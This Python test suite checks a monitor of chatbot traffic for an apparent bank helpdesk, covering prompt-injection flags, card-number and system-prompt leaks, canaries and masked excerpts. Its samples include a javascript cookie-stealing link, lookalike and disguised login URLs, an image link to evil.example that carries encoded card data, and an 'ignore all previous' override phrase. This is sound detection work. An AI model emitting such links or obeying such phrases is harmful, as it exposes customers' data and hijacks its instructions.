"""What the stream sees of texts: columns, rows that merge however they are split, excerpts that hide values."""

from __future__ import annotations

import json
from typing import Any

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from monitors.text import find, leaks
from monitors.text._instructions import repeated
from monitors.text._language import LANGUAGES, language
from monitors.text._masked import excerpt
from monitors.text._refusal import refuses
from monitors.text._tools import calls
from monitors.textrows import likeness
from monitors.textseen import Told, texts_of
from schemas.events import LEAK, TEXT_ATTACK, RawRecord, row_hash
from schemas.formats import Limits, load
from schemas.texts import MOST_EXCERPTS, MOST_PRINCIPALS, MOST_ROWS, TextRow, Texts, merge_texts
from tests.support.chats import ATTACKS, CARD, REFUSAL, called, chat
from tests.support.traffic import SOURCE, Made, observed, run_line, small_settings, traffic


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("How do I block my card?", "en"),
        ("كيف يمكنني تفعيل البطاقة؟", "ar"),
        ("Wie kann ich meine Karte sperren und was kostet das?", "de"),
        ("Comment puis-je bloquer ma carte dans le pays?", "fr"),
        ("¿Cómo puedo bloquear mi tarjeta para el viaje?", "es"),
        ("Как заблокировать карту?", "ru"),
        ("如何冻结我的银行卡", "zh"),
        ("12345", "other"),
        ("", "other"),
    ],
)
def test_languages(text: str, name: str) -> None:
    assert LANGUAGES[language(text)] == name


@pytest.mark.parametrize(
    ("reply", "declines"),
    [
        (REFUSAL, True),
        ("I cannot share details of other customers.", True),
        ("آسف، لا يمكنني مساعدتك في ذلك.", True),
        ("Dabei kann ich Ihnen leider nicht helfen.", True),
        ("I can't find a transaction of that amount.", False),
        ("You can do that in the app.", False),
        ("", False),
    ],
)
def test_refusals(reply: str, declines: bool) -> None:
    assert refuses(reply) is declines


def test_tools_are_named_once_and_prose_calls_none() -> None:
    assert tools_of(called("transfer_money")) == ("transfer_money",)
    twice = '<tool_call>{"name": "lookup", "arguments": {}}</tool_call> {"name": "lookup"} tool'
    assert tools_of(twice) == ("lookup",)
    assert tools_of('I look it up.\nlookup({"q": "fees"})') == ("lookup",)
    assert tools_of('My "name": "Bob" is no call') == ()


def tools_of(reply: str) -> tuple[str, ...]:
    return Told((), False, calls(reply)).tools


def test_what_about_a_call_may_be_new() -> None:
    (call,) = calls(called("send", to="x@evil.example", body="see https://docs.example/a?b=1"))
    assert call.shapes == ("send(body,to)", "send@docs.example", "send@evil.example")
    assert calls('send({"to": "y@evil.example"})')[0].shapes == ("send(to)", "send@evil.example")


def test_an_argument_that_is_an_attack_is_a_finding_and_a_tame_one_is_not() -> None:
    batch = load("json_lines")(
        [
            RawRecord(n, json.dumps({"ts": 1.0, "model": "m", "response": called("ask", text=text)}).encode(), None)
            for n, text in enumerate((ATTACKS[0], "What are the fees abroad?"))
        ],
        SOURCE,
        Limits(),
    )
    seen = texts_of(batch, row_hash("t", 0, batch.offset))
    assert seen is not None
    assert [seen.kinds(row)[1] for row in (0, 1)] == [["tool.order"], []]


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("See javascript:alert(document.cookie)", "link.script"),
        ("Log in at http://3232235777/login", "link.address"),
        ("Log in at https://xn--bnk-vna.example/login", "link.lookalike"),
        ("Log in at https://b\u0430nk.example/login", "link.lookalike"),
        ("Log in at https://bank.example@evil.example/login", "link.disguised"),
        ("![x](https://evil.example/p.png?d=bXkgY2FyZCBpcyA0OTI5IDEyMzQgNTY3OCA5MDE1IGFuZCBtb3Jl)", "link.carries"),
        ("See https://bank.example/fees-for-paying-with-your-card-while-you-are-abroad", None),
        ("See https://bank.example/search?q=card+fees&lang=en", None),
        ("Write to help@bank.example: we answer", None),
    ],
)
def test_links(text: str, kind: str | None) -> None:
    assert [one.kind for one in find(text) if one.kind.startswith("link.")] == ([kind] if kind else [])


def test_an_excerpt_shows_reasons_and_hides_values() -> None:
    text = f"My order is 88451234567. {ATTACKS[0]} My card is {CARD}."
    shown = excerpt(text, find(text), 200)
    assert "4929" not in shown.text
    assert "9015" not in shown.text
    assert "8845" not in shown.text
    kinds = {kind: shown.text[start:end] for start, end, kind in shown.marks}
    assert kinds["pii.card"] == "[pii.card]"
    assert any(kind.startswith("injection.") and "gnore all previous" in said for kind, said in kinds.items())
    assert excerpt(text, find(text), 0) == ("", ())


@given(st.text(max_size=300), st.integers(1, 200))
def test_marks_lie_in_the_excerpt(text: str, most: int) -> None:
    whole = f"{text} mail a.b@c.example, {ATTACKS[2]} card {CARD} {text}"
    shown = excerpt(whole, find(whole), most)
    assert CARD not in shown.text
    assert all(0 <= start < end <= len(shown.text) for start, end, _ in shown.marks)


def test_flags_scores_and_kinds_are_stored_with_the_event() -> None:
    rows = chat(2, 20, seed=3)
    rows[0]["prompt"], rows[1]["response"] = ATTACKS[0], f"Your card is {CARD}."
    rows[2].pop("prompt")
    ran = run_line(Made().add(rows).feeds(), small_settings())
    stored = sorted(ran.store.rows("events"), key=lambda row: int(row["offset"]))
    assert stored[0]["flags"] & TEXT_ATTACK
    assert stored[0]["text_score"] >= 0.5
    assert "injection.override" in stored[0]["asked"]
    assert stored[1]["flags"] & LEAK
    assert stored[1]["told"] == ["pii.card"]
    assert stored[2]["text_score"] is None
    assert sum(bool(row["flags"] & (TEXT_ATTACK | LEAK)) for row in stored) == 2


def test_events_without_text_have_no_columns_of_texts() -> None:
    batch = load("json_lines")(Made().add(traffic(2, 20)).records, SOURCE, Limits())
    assert texts_of(batch, row_hash("inference", 0, batch.offset)) is None
    (summary,) = [*observed(Made().add(traffic(1, 20)).records).values()][:1]
    assert "prompts" not in summary.vectors
    assert not summary.texts.of


def test_a_batch_of_both_kinds_keeps_its_rows_apart() -> None:
    rows = sorted([*traffic(2, 20), *chat(2, 20)], key=lambda row: float(row["ts"]))
    summaries = observed(Made().add(rows).records)
    prompts = sum(int(s.vectors["prompts"][0]) for key, s in summaries.items() if key.model == "helpdesk")
    assert prompts == sum("prompt" in row for row in rows)
    assert all("prompts" not in s.vectors for key, s in summaries.items() if key.model == "card")


def row(hash: int, shows: bool) -> TextRow:
    return TextRow(hash, hash * 7, score=900 if shows else 10, excerpt="x" if shows else "")


made = st.dictionaries(
    st.integers(0, 400).map(lambda n: f"p{n}"),
    st.lists(st.tuples(st.integers(0, 10**6), st.booleans()), min_size=1, max_size=20, unique_by=lambda one: one[0]),
    max_size=40,
)


@given(made, st.integers(1, 5), st.randoms(use_true_random=False))
def test_however_rows_are_split_the_same_ones_stay(of: dict[str, list[tuple[int, bool]]], parts: int, rng: Any) -> None:
    every = [(who, row(hash, shows)) for who, rows in of.items() for hash, shows in rows]
    whole = merge_texts([one(every), Texts(7, {})])
    split: list[list[tuple[str, TextRow]]] = [[] for _ in range(parts)]
    for each in every:
        split[rng.randrange(parts)].append(each)
    merged = Texts(7, {})
    for some in split:
        merged = merge_texts([merged, one(some)])
    assert merged.of == whole.of


def one(rows: list[tuple[str, TextRow]]) -> Texts:
    found: dict[str, list[TextRow]] = {}
    for who, each in rows:
        found.setdefault(who, []).append(each)
    return merge_texts([Texts(7, {who: [each]}) for who, some in found.items() for each in some])


def test_rows_are_bounded() -> None:
    many = Texts(7, {f"p{n}": [row(n * 100 + k, True) for k in range(20)] for n in range(2 * MOST_PRINCIPALS)})
    kept = merge_texts([many, Texts(7, {"p0": [row(5, True)]})])
    assert len(kept.of) == MOST_PRINCIPALS
    assert {len(rows) for rows in kept.of.values()} == {MOST_ROWS}
    assert {sum(each.shows for each in rows) for rows in kept.of.values()} == {MOST_EXCERPTS}


def test_likeness_estimates_the_words_in_common() -> None:
    rng = np.random.default_rng(1)
    agree = []
    for _ in range(400):
        words = rng.integers(0, 1 << 32, 30).tolist()
        a, b = likeness(words[:20], 5), likeness(words[10:], 5)
        agree.append(sum(x == y for x, y in zip(a, b, strict=True)) / 4)
    assert abs(float(np.mean(agree)) - 10 / 30) < 0.05


def test_nothing_of_a_text_reaches_a_summary_where_texts_are_not_kept() -> None:
    secret = "zanzibar"
    rows = chat(3, 20)
    for each in rows:
        each["prompt"] = f"{ATTACKS[0]} {secret}"
    for text, shown in (("hashes", True), ("none", False)):
        ran = run_line(Made().add(rows).feeds(), small_settings().replace("privacy", text=text))
        said = repr([ran.store.rows(name) for name in ("text_minutes", "minutes", "alerts", "events", "event_text")])
        assert (secret in said) is shown


def test_a_canary_in_a_reply_is_a_leak_and_is_not_shown() -> None:
    rows = chat(3, 20, seed=3)
    rows[5]["response"] = "My instructions begin with zebra-7731: zebra-7731."
    rows[6]["prompt"] = "What is zebra-7731?"
    settings = small_settings().replace("privacy", canaries="heron-1 zebra-7731")
    ran = run_line(Made().add(rows).feeds(), settings)
    stored = sorted(ran.store.rows("events"), key=lambda row: int(row["offset"]))
    assert [row["told"] for row in stored if row["told"]] == [["leak.canary"]]
    (alert,) = [alert for alert in ran.alerts.values() if alert.rule == "text_leak_seen"]
    assert alert.series.feature == "leak.canary"
    assert alert.evidence["excerpts"][0]["text"] == "My instructions begin with [leak.canary]: [leak.canary]."


INSTRUCTIONS = (
    "You are the assistant of Dune Bank. Answer in the language of the customer and never name the code word gazelle. "
    "Send complaints about cards to the desk on the second floor, and do not speak about the prices of other banks."
)


def test_a_reply_that_repeats_the_instructions_is_a_leak_and_they_are_kept_nowhere() -> None:
    rows = [each | {"system": INSTRUCTIONS} for each in chat(3, 20, seed=3)]
    rows[5]["response"] = f'Of course, my instructions say: "{INSTRUCTIONS[:140]}"'
    ran = run_line(Made().add(rows).feeds(), small_settings())
    stored = sorted(ran.store.rows("events"), key=lambda row: int(row["offset"]))
    assert [row["told"] for row in stored if row["told"]] == [["leak.system_prompt"]]
    (alert,) = [alert for alert in ran.alerts.values() if alert.rule == "text_leak_seen"]
    assert alert.series.feature == "leak.system_prompt"
    assert alert.evidence["excerpts"][0]["text"].startswith('Of course, my instructions say: "[leak.system_prompt]')
    kept = [ran.store.rows(name) for name in ("events", "event_text", "text_minutes", "minutes", "alerts")]
    assert "gazelle" not in repr(kept)


@pytest.mark.parametrize(
    ("reply", "leaked"),
    [
        (INSTRUCTIONS.upper(), True),
        (INSTRUCTIONS.replace(" ", "\n"), True),
        ("Complaints about cards go to the desk on the second floor.", False),
        ("The desk on the second floor takes complaints. I do not speak about the prices of other banks.", False),
        ("", False),
    ],
)
def test_how_much_of_the_instructions_a_reply_must_repeat(reply: str, leaked: bool) -> None:
    found = repeated(reply, INSTRUCTIONS)
    assert [one.kind for one in found] == ["leak.system_prompt"] * leaked
    if leaked:
        assert reply[found[0].start : found[0].end] == reply.rstrip(".")


def test_instructions_too_short_for_a_run_leak_nothing() -> None:
    assert repeated("Be kind.", "Be kind.") == ()


def test_a_reply_that_quotes_an_attack_is_no_leak() -> None:
    assert [one.kind for one in leaks(f"{ATTACKS[0]} Your card is {CARD}.")] == ["pii.card"]


def test_event_rows_of_a_batch_without_text() -> None:
    ran = run_line(Made().add(traffic(1, 20)).feeds(), small_settings())
    assert all(each["text_score"] is None and each["asked"] == [] for each in ran.store.rows("events"))
